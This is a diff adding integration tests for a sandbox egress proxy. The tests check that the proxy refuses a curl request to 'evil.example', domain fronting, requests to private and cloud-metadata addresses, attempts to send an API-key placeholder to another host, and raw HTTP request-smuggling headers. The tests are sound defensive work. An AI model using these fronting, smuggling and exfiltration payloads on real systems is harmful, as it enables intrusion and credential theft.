@@ -1,0 +1,297 @@
+"""The egress proxy, from inside a sandbox, with real clients and real TLS.
+
+Each test checks what the client saw and what the gateway recorded (one record per request or
+tunnel), and where it matters what the server on the far side received.
+"""
+
+from __future__ import annotations
+
+import json
+import tempfile
+import textwrap
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from sandgate.events.schema import Event, Kind
+from sandgate.session.runner import UID_BASE, RunResult
+
+from .conftest import Runner
+
+pytestmark = pytest.mark.kernel
+
+VENV_PY = "/opt/sandgate/venv/bin/python"
+AGENT_POLICY = Path(__file__).resolve().parents[2] / "examples" / "agent.toml"
+
+
+@pytest.fixture
+def work() -> Iterator[Path]:
+    with tempfile.TemporaryDirectory(prefix="sg-proxytest-") as d:
+        path = Path(d)
+        path.chmod(0o777)
+        yield path
+
+
+def _py(sandbox: Runner, work: Path, code: str, **kw: object) -> tuple[RunResult, str]:
+    (work / "t.py").write_text(textwrap.dedent(code))
+    (work / "out.txt").unlink(missing_ok=True)
+    result = sandbox.sh(f"{VENV_PY} t.py > out.txt 2>&1", workdir=work, **kw)
+    return result, (work / "out.txt").read_text() if (work / "out.txt").exists() else ""
+
+
+def _http(sandbox: Runner, result: RunResult) -> list[Event]:
+    return sandbox.events(result, Kind.HTTP)
+
+
+def test_transparent_tls_passthrough_and_noproxy_refusal(sandbox: Runner, work: Path) -> None:
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import subprocess
+        def curl(*a):
+            p = subprocess.run(["curl", "--noproxy", "*", "-sS", "-m", "5", "-o", "/dev/null",
+                                "-w", "%{http_code}", *a], capture_output=True, text=True)
+            print(p.returncode, p.stdout or p.stderr.strip())
+        curl("https://pypi.org/simple/")
+        curl("--resolve", "evil.example:443:203.0.113.40", "https://evil.example/")
+    """,
+        mode="allowlist",
+    )
+    lines = out.splitlines()
+    assert lines[0] == "0 200"
+    assert not lines[1].startswith("0 ")  # refused: reset during the handshake
+    events = _http(sandbox, r)
+    ok = next(e for e in events if e.name == "pypi.org")
+    assert ok.verdict == "allow" and ok.details["tls"] == "passthrough"
+    assert ok.details["door"] == "transparent" and ok.uid == UID_BASE
+    assert ok.details["bytes_down"] > 0
+    bad = next(e for e in events if e.name == "evil.example")
+    assert bad.verdict == "deny" and bad.reason == "deny.not_allowlisted" and bad.uid == UID_BASE
+
+
+def test_explicit_proxy_connect_and_absolute_form(sandbox: Runner, work: Path) -> None:
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import os, requests, httpx
+        print(requests.get("https://pypi.org/simple/", timeout=5).status_code)
+        print(httpx.get("http://example.com/echo", timeout=5).json()["host"])
+        try:
+            requests.get("https://evil.example/", timeout=5)
+            print("LEAK")
+        except requests.exceptions.ProxyError as exc:
+            print("refused", "403" in str(exc))
+    """,
+        mode="allowlist",
+        allow=["example.com"],
+    )
+    assert out.split() == ["200", "example.com", "refused", "True"]
+    events = _http(sandbox, r)
+    assert {(e.name, e.details["door"], e.verdict) for e in events} >= {
+        ("pypi.org", "explicit", "allow"),
+        ("example.com", "explicit", "allow"),
+        ("evil.example", "explicit", "deny"),
+    }
+    connect = next(e for e in events if e.name == "pypi.org")
+    assert connect.details["tls"] == "passthrough" and connect.details["sni"] == "pypi.org"
+
+
+def test_fronting_is_refused(sandbox: Runner, work: Path) -> None:
+    # CONNECT to one name, then a ClientHello for another.
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import os, socket, ssl
+        proxy = os.environ["https_proxy"].removeprefix("http://").split(":")
+        s = socket.create_connection((proxy[0], int(proxy[1])), timeout=5)
+        s.sendall(b"CONNECT pypi.org:443 HTTP/1.1\\r\\nHost: pypi.org:443\\r\\n\\r\\n")
+        print(s.recv(200).split(b"\\r\\n")[0].decode())
+        ctx = ssl.create_default_context()
+        try:
+            ctx.wrap_socket(s, server_hostname="example.com")
+            print("LEAK")
+        except (ssl.SSLError, OSError) as exc:
+            print("refused")
+    """,
+        mode="open",
+    )
+    assert out.splitlines() == ["HTTP/1.1 200 Connection established", "refused"]
+    fronted = [e for e in _http(sandbox, r) if e.reason == "deny.fronting"]
+    assert fronted and fronted[0].details["sni"] == "example.com"
+
+
+def test_no_sni_is_judged_by_address(sandbox: Runner, work: Path) -> None:
+    # curl sends no SNI to an IP literal.
+    r = sandbox.sh(
+        "curl --noproxy '*' -sk -m 5 -o /dev/null https://203.0.113.20/; echo rc=$?",
+        mode="allowlist",
+    )
+    events = _http(sandbox, r)
+    assert events and events[0].details.get("sni") is None
+    assert events[0].verdict == "deny" and events[0].reason == "deny.not_allowlisted"
+    r = sandbox.sh("curl --noproxy '*' -sk -m 5 -o /dev/null https://203.0.113.20/", mode="open")
+    assert r.exit_code == 0 and _http(sandbox, r)[0].reason == "allow.open"
+
+
+def test_connect_to_private_addresses_refused(sandbox: Runner, work: Path) -> None:
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import requests
+        for url in ("https://rebind.example/", "https://10.77.0.20:22/", "https://169.254.169.254/"):
+            try:
+                requests.get(url, timeout=5)
+                print("LEAK", url)
+            except requests.exceptions.ProxyError:
+                print("refused")
+    """,
+        mode="open",
+    )
+    assert out.split() == ["refused"] * 3
+    reasons = [e.reason for e in _http(sandbox, r)]
+    assert reasons == ["deny.rebinding", "deny.private", "deny.metadata"]
+
+
+def test_openai_sdk_streams_with_the_key_injected(sandbox: Runner, work: Path) -> None:
+    before = len(sandbox.world_log("openai"))
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import os, openai
+        key = os.environ["OPENAI_API_KEY"]
+        print("placeholder" if key.startswith("sg-openai-") else "REAL KEY VISIBLE")
+        client = openai.OpenAI(base_url="https://api.openai.com/v1")
+        chunks = client.chat.completions.create(
+            model="gpt-sandgate", stream=True,
+            messages=[{"role": "user", "content": "count to three"}])
+        print("".join(c.choices[0].delta.content or "" for c in chunks if c.choices))
+    """,
+        policy=str(AGENT_POLICY),
+    )
+    lines = out.splitlines()
+    assert lines[0] == "placeholder"
+    assert lines[1] == "echo: count to three"
+    record = next(e for e in _http(sandbox, r) if e.name == "api.openai.com")
+    assert record.details["tls"] == "inspected" and record.details["status"] == 200
+    assert record.details["credentials"] == ["injected:openai"]
+    seen = [x for x in sandbox.world_log("openai")[before:] if x.get("event") == "request"]
+    assert seen and seen[-1]["authorization"].startswith("Bearer sk-world-")
+    # The real value is nowhere in the event store.
+    real = seen[-1]["authorization"].removeprefix("Bearer ")
+    assert real not in json.dumps([e.as_json() for e in sandbox.events(r)])
+
+
+def test_placeholder_to_another_host_is_blocked(sandbox: Runner, work: Path) -> None:
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import os, requests
+        key = os.environ["OPENAI_API_KEY"]
+        for url, kw in (("http://example.com/echo", {"headers": {"Authorization": key}}),
+                        ("http://example.com/echo?k=" + key, {}),
+                        ("http://example.com/echo", {"data": "secret=" + key})):
+            r = requests.post(url, timeout=5, **kw)
+            print(r.status_code, r.headers.get("x-sandgate-reason"))
+    """,
+        policy=str(AGENT_POLICY),
+        allow=["example.com"],
+    )
+    assert out.splitlines()[:2] == ["403 deny.exfiltration"] * 2
+    assert not out.splitlines()[2].startswith("200")
+    exfil = [e for e in _http(sandbox, r) if e.reason == "deny.exfiltration"]
+    assert len(exfil) == 3
+
+
+def test_placeholder_over_plain_http_to_its_own_host_is_blocked(
+    sandbox: Runner, work: Path
+) -> None:
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import os, requests
+        r = requests.get("http://api.openai.com/v1/models", timeout=5,
+                         headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
+        print(r.status_code, r.headers.get("x-sandgate-reason"))
+    """,
+        policy=str(AGENT_POLICY),
+        allow=["api.openai.com:80"],
+    )
+    assert out.strip() == "403 deny.exfiltration"
+
+
+def test_trace_and_smuggling_shapes_refused(sandbox: Runner, work: Path) -> None:
+    r, out = _py(
+        sandbox,
+        work,
+        r"""
+        import socket
+        heads = [
+            b"TRACE / HTTP/1.1\r\nHost: example.com\r\n\r\n",
+            b"POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+            b"POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
+            b"POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: xchunked\r\n\r\n",
+            b"GET / HTTP/1.1\r\nHost: example.com\r\nX: a\r\n b\r\n\r\n",
+            b"GET / HTTP/1.1\r\nHost: example.com\r\nX: a\x00b\r\n\r\n",
+            b"GET /\nHTTP/1.1\r\nHost: example.com\n\n",
+        ]
+        for head in heads:
+            s = socket.create_connection(("203.0.113.10", 80), timeout=5)
+            s.sendall(head)
+            print(s.recv(100).split(b"\r\n")[0].decode(errors="replace"))
+            s.close()
+        s = socket.create_connection(("203.0.113.10", 80), timeout=5)
+        s.sendall(b"GET /status/204 HTTP/1.1\r\nHost: example.com\r\n\r\n")
+        print(s.recv(100).split(b"\r\n")[0].decode())
+    """,
+        mode="open",
+    )
+    lines = out.splitlines()
+    assert lines[0].startswith("HTTP/1.1 405")
+    assert all(line.startswith("HTTP/1.1 4") for line in lines[1:-1]), lines
+    assert lines[-1].startswith("HTTP/1.1 204")  # the proxy kept serving
+    refused = [e for e in _http(sandbox, r) if e.verdict == "deny"]
+    assert len(refused) == 7 and all(e.reason == "deny.protocol" for e in refused)
+
+
+@pytest.mark.parametrize("mode", ["passthrough", "inspected"])
+def test_sse_lockstep_through_the_proxy(sandbox: Runner, work: Path, mode: str) -> None:
+    """The server sends event n+1 only after the client acknowledged event n: a proxy that
+    buffered would deadlock this test (it would time out instead of finishing)."""
+    policy = None
+    if mode == "inspected":
+        policy = work / "inspect.toml"
+        policy.write_text('[profiles.p]\ninternet = "open"\ninspect = ["example.com"]\n')
+    r, out = _py(
+        sandbox,
+        work,
+        """
+        import httpx, json
+        url = "https://example.com"
+        with httpx.Client(timeout=10) as c, c.stream("GET", url + "/sse?n=5&lockstep=1") as resp:
+            sid = resp.headers["x-sg-lockstep-id"]
+            got = 0
+            for line in resp.iter_lines():
+                if line.startswith("data:"):
+                    n = json.loads(line[5:])["n"]
+                    c.post(f"{url}/lockstep/{sid}/ack/{n}")
+                    got += 1
+            print("events", got)
+    """,
+        mode="open",
+        policy=str(policy) if policy else None,
+    )
+    assert out.strip() == "events 5", out
+    stream = next(
+        e
+        for e in _http(sandbox, r)
+        if e.details.get("path", "").startswith("/sse") or e.details.get("tls") == "passthrough"
+    )
+    assert stream.details["tls"] == mode
